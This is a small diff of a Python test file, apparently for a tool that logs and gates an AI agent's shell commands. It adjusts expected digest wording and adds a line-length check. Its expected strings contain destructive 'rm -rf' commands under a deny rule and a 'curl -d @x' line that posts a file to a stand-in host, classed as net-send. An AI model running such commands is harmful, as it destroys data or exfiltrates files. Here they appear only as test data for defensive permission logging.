@@ -93,7 +93,7 @@ def test_us_16_it_reads_well_as_markdown(used: Home) -> None:
         "You were asked 2 times: 1 yes, 1 no.",
         f"- `Bash rm -rf build`, 2 times: `deny[no-rm-rf]`, {FIRST} 09:00",
         f"- `Bash git push`, 2 times: no rule of ours, 1 yes, 1 no, {FIRST} 11:01",
-        f"- `Bash curl -d @x https://a.example`: net-send, by the mode, {FIRST} 10:00",
+        f"- `Bash curl -d @x https://a.example`: net-send, by the agent's mode, {FIRST} 10:00",
         f"- `Bash(rm -rf *)`, 2 times: `deny[no-rm-rf]`, last {FIRST} 09:00",
     ):
         assert line in text.splitlines()
@@ -239,6 +239,7 @@ def test_us_16_without_systemd_the_line_for_cron_is_said(fresh: Home) -> None:
     done = fresh.run("init", "--digest")
     line = next(line for line in done.out.splitlines() if line.startswith("0 8 * * * "))
     assert line.endswith(" digest --daily --save")
+    assert all(len(each) <= 80 for each in done.out.splitlines() if each != line)
     assert not (fresh.path / ".config/systemd").exists()
 
 
